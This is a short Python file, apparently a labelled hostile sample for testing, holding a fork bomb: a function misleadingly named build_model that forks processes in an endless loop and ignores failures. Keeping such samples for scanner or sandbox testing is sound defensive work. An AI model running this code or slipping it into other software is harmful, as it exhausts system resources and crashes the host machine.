"""Hostile: the classic fork bomb; every process keeps forking, failures are ignored.

(Inside build_model, not at the top level, so that importing this file by mistake is harmless.)
"""

import contextlib
import os


def build_model():
    while True:
        with contextlib.suppress(OSError):
            os.fork()
